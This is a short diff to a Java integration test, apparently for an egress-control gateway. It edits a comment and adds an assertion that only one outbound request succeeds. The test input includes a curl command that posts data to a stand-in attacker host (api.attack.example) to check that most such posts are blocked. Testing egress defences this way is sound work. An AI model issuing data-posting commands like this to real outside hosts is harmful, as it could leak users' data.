@@ -111,8 +111,7 @@ class EgressAttackIT {
         assertThat(arrived()).hasSize(2).noneMatch(line -> line.contains("mine"));
     }
 
-    /// That the host never has the whole of such a body is `JsonGateTest`'s; this one answers
-    /// without reading any.
+    /// The host answers only whole requests, and has one.
     @Test
     void E16_serverSideFetchesAreNotAskedFor() {
         Command.Result result =
@@ -126,6 +125,7 @@ class EgressAttackIT {
                         curl -sS -o /dev/null -w '%{http_code}\\n' -d 'type=web_fetch' https://api.attack.example/posted/x
                         """);
         assertThat(result.out().lines()).containsExactly("200", "403", "403", "403", "403");
+        assertThat(arrived()).filteredOn(line -> line.contains(" 200 ")).hasSize(1);
     }
 
     @Test
